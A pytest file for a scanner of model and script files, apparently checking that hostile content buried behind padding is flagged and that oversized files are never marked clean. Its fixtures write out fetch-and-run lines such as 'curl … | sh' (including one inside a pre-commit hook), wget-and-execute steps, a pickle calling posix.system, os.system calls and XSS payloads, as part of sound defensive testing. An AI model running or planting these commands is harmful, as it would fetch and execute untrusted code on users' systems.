"""What is hostile stands behind what a reader would take: it is found all the same, or the file is not called clean."""

import io
import json
import tarfile
import zlib
from pathlib import Path

import pytest

from seatrial.app.scan import Scanned, scan
from seatrial.app.scan_file import FileVerdict
from seatrial.domain.finding import Kind, Severity
from seatrial.formats import hidden_payload
from seatrial.testing.builders import calling
from tests.corpus.protobuf_writer import field

MIB = 1024 * 1024
SCRIPT = 'CreateObject("WScript.Shell").Run "cmd /c echo inert"\n'
FETCHED = "curl -s http://203.0.113.9/i | sh\n"
PROGRAM = b"\0asm\1\0\0\0" + bytes(64)


def scanned(folder: Path, name: str, content: bytes | str) -> Scanned:
    target = folder / name
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_bytes(content.encode() if isinstance(content, str) else content)
    (file,) = scan([target], jobs=1)
    return file


def said(file: Scanned) -> str:
    return "\n".join(f"{r.finding.kind} {r.finding.severity} {r.finding.message}" for r in file.reported)


def worst(file: Scanned) -> Severity:
    weighty = [r.finding.severity for r in file.reported if r.finding.kind in (Kind.FAIL, Kind.REVIEW)]
    return max(weighty, key=lambda severity: severity.rank, default=Severity.NONE)


HIDDEN: dict[str, tuple[str, bytes | str]] = {
    "an act behind two megabytes of remarks": ("setup.vbs", "' remark\n" * 300_000 + SCRIPT),
    "an act behind decoys of its first half": (
        "go.ps1",
        "# wget\n" * 400 + "\n" * 2_000 + "wget http://203.0.113.9/a.exe\nStart-Process .\\a.exe\n",
    ),
    "a command behind many that are none": (
        "convert.pl",
        'print "use curl or wget";\n' * 400 + "system('" + FETCHED.strip() + "');\n",
    ),
    "a command at the end of a long line": ("app.js", 'var a="";' * 2_000 + f'run("{FETCHED.strip()}");'),
    "the last of many commands in a line": ("run.sh", "#!/bin/sh\n" + "w;" * 350 + "x=1; " + FETCHED),
    "the last of many files that are fetched": (
        "get.sh",
        "#!/bin/sh\n"
        + "".join(f"wget -q http://203.0.113.9/d -O data{number}.sh\n" for number in range(80))
        + "sh data79.sh\n",
    ),
    "a grave setting behind many slight ones": (
        ".pre-commit-config.yaml",
        "repos:\n- repo: local\n  hooks:\n"
        + "".join(f"  - {{id: h{number}, entry: ruff, language: system}}\n" for number in range(80))
        + f"- repo: local\n  hooks:\n  - {{id: last, language: system, entry: '{FETCHED.strip()}'}}\n",
    ),
    "a kernel behind many names that are none": (
        "config.json",
        json.dumps({"hub_kernels": [*["eager"] * 100, "somebody/kernel"], "model_type": "llama"}),
    ),
    "a remark of a model of trees behind its numbers": (
        "model.txt",
        "tree\nversion=v4\nnum_class=1\nnum_tree_per_iteration=1\nlabel_index=0\nmax_feature_idx=1\n"
        "objective=regression\nfeature_names=a b\nfeature_infos=[0:1] [0:1]\ntree_sizes=100\n\nTree=0\nnum_leaves=2\n"
        + "leaf_value=0.5 -0.5 0.25 0.125\n" * 60_000
        + "parameters:\n[note: <img src=x onerror=alert(1)>]\nend of parameters\n",
    ),
    "a text of a graph behind half a megabyte": (
        "model.onnx",
        field(1, 8)
        + field(2, b"pytorch")
        + field(8, field(1, b"") + field(2, 17))
        + field(7, field(2, b"g") + field(1, field(1, b"x") + field(2, b"y") + field(4, b"Relu")))
        + field(14, field(1, b"note") + field(2, b"x" * (MIB // 2) + b"<script>alert(1)</script>")),
    ),
    "a program in the middle of a file of no known format": ("blob.bin", b"\xd7" * 6 * MIB + PROGRAM + b"\xd7" * MIB),
    "a pickle in base64 in the middle of JSON": (
        "data.json",
        json.dumps(
            ["x" * 60] * 40_000 + ["gASVHgAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=="] + ["x" * 60] * 40_000
        ),
    ),
}


OF_DATA = ("model.onnx", "blob.bin")
"""Whose fault is a sign, and no more."""


@pytest.mark.parametrize("name", HIDDEN)
def test_what_stands_behind_much_else_is_found(name: str, tmp_path: Path) -> None:
    path, content = HIDDEN[name]
    file = scanned(tmp_path, path, content)
    assert file.verdict is FileVerdict.FLAGGED, said(file)
    least = Severity.MEDIUM if path in OF_DATA else Severity.HIGH
    assert worst(file).rank >= least.rank, said(file)


UNREAD: dict[str, tuple[str, bytes | str]] = {
    "a page larger than any page": ("page.html", "<p>" + "x" * 17_000_000),
    "a configuration too large to be parsed": (
        "params.json",
        json.dumps({"filler": ["x" * 90] * 100_000, "model": {"_t\u0061rget_": "os.system"}}),
    ),
    "settings too large to be parsed that hold a template": (
        "notes.json",
        json.dumps({"filler": ["x" * 90] * 100_000, "chat_template": "{{ messages }}"}),
    ),
    "a list of packages without end": ("requirements.txt", "numpy\n" * 60_000),
    "Python longer than is read": ("setup.py", "x = 1\n" * 400_000 + "import os\nos.system('id')\n"),
    "a notebook's cell longer than is read": (
        "demo.ipynb",
        json.dumps(
            {
                "nbformat": 4,
                "cells": [{"cell_type": "code", "source": "x = 1\n" * 400_000, "outputs": []}],
                "metadata": {},
            }
        ),
    ),
}


@pytest.mark.parametrize("name", UNREAD)
def test_what_is_too_large_is_never_called_clean(name: str, tmp_path: Path) -> None:
    path, content = UNREAD[name]
    file = scanned(tmp_path, path, content)
    assert file.verdict is not FileVerdict.CLEAN
    assert any(r.finding.kind is Kind.OPEN for r in file.reported), said(file)


def test_an_archive_behind_more_padding_than_any_tool_writes_is_unpacked(tmp_path: Path) -> None:
    def archive(name: str, body: bytes) -> bytes:
        out = io.BytesIO()
        with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as made:
            info = tarfile.TarInfo(name)
            info.size = len(body)
            made.addfile(info, io.BytesIO(body))
        return out.getvalue()

    target = tmp_path / "model.tar"
    with target.open("wb") as out:
        out.write(archive("weights.txt", b"1 2 3\n"))
        out.seek(70 * MIB)
        out.write(archive("model.pkl", calling("posix", "system", "echo inert")))
    (file,) = scan([target], jobs=1)
    assert file.verdict is FileVerdict.FLAGGED
    assert "posix.system" in said(file), said(file)


def test_a_pickle_of_which_a_part_was_searched_for_credentials_says_so(tmp_path: Path) -> None:
    file = scanned(tmp_path, "list.pkl", b"\x80\x04]" + b"\x8c\x08aaaaaaaa0" * 110_000 + b".")
    assert "were searched for credentials" in said(file), said(file)


@pytest.mark.parametrize("more", [3 * MIB, 8 * MIB])
def test_the_part_of_a_large_file_that_was_searched_is_told(more: int, tmp_path: Path) -> None:
    blob = tmp_path / "blob.bin"
    with blob.open("wb") as out:
        out.write(b"\xd7" * 4096)
        out.truncate(hidden_payload.WHOLE_BYTES + more)
    (file,) = scan([blob], jobs=1)
    assert "its beginning and its end" in said(file), said(file)


def test_what_expands_in_a_file_is_not_taken_for_more_of_the_file_searched() -> None:
    packed = b"".join(zlib.compress(bytes(64 * 1024)) for _ in range(64))
    search = hidden_payload.Search(io.BytesIO(packed + b"\xd7" * 3 * MIB), "hdf5")
    assert sum(len(part.data) for part in search) > 4 * MIB
    assert f"{hidden_payload.HEAD_BYTES + hidden_payload.TAIL_BYTES:,} of its" in search.extent().what
